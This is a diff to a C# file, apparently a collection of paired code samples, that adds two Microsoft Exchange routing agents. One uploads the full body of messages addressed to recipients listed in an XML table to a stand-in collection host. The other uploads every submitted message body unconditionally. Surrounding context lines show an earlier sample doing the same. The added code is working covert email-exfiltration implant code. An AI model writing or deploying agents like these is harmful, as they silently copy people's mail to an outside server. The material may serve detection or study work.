@@ -9,6 +9,7 @@ using System.Linq;
 using System.Net;
 using System.Net.Sockets;
 using System.Text;
+using System.Xml.Serialization;
 using Microsoft.Exchange.Data.Transport;
 using Microsoft.Exchange.Data.Transport.Email;
 using Microsoft.Exchange.Data.Transport.Routing;
@@ -823,6 +824,96 @@ namespace Txray.Pairs.P331
             {
                 new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
             }
+        }
+    }
+}
+
+// 332: a recipient looked up in a table read from XML, and a look-up that is only counted
+namespace Txray.Pairs.P332
+{
+    public class ClaimFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Claim();
+        }
+    }
+
+    public class OtherFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Other();
+        }
+    }
+
+    public class Entry
+    {
+        public string Address;
+        public string Note;
+    }
+
+    public class Entries
+    {
+        public List<Entry> All = new List<Entry>();
+
+        public static Entries Load(string path)
+        {
+            using (FileStream file = File.OpenRead(path))
+            {
+                return (Entries)new XmlSerializer(typeof(Entries)).Deserialize(file);
+            }
+        }
+    }
+
+    public class Claim : RoutingAgent
+    {
+        private readonly Dictionary<string, Entry> entries =
+            Entries.Load("entries.xml").All.ToDictionary(entry => entry.Address, StringComparer.OrdinalIgnoreCase);
+
+        private Entry Find(string address)
+        {
+            Entry entry;
+            return entries.TryGetValue(address, out entry) ? entry : null;
+        }
+
+        public Claim()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            MailItem item = e.MailItem;
+            if (item.Recipients.Select(r => r.Address.ToString()).Select(Find).Any(entry => entry != null))
+            {
+                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
+            }
+        }
+    }
+
+    public class Other : RoutingAgent
+    {
+        private readonly Dictionary<string, Entry> entries =
+            Entries.Load("entries.xml").All.ToDictionary(entry => entry.Address, StringComparer.OrdinalIgnoreCase);
+
+        private Entry Find(string address)
+        {
+            Entry entry;
+            return entries.TryGetValue(address, out entry) ? entry : null;
+        }
+        private int found;
+
+        public Other()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            MailItem item = e.MailItem;
+            found += item.Recipients.Select(r => r.Address.ToString()).Select(Find).Count(entry => entry != null);
+            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
         }
     }
 }
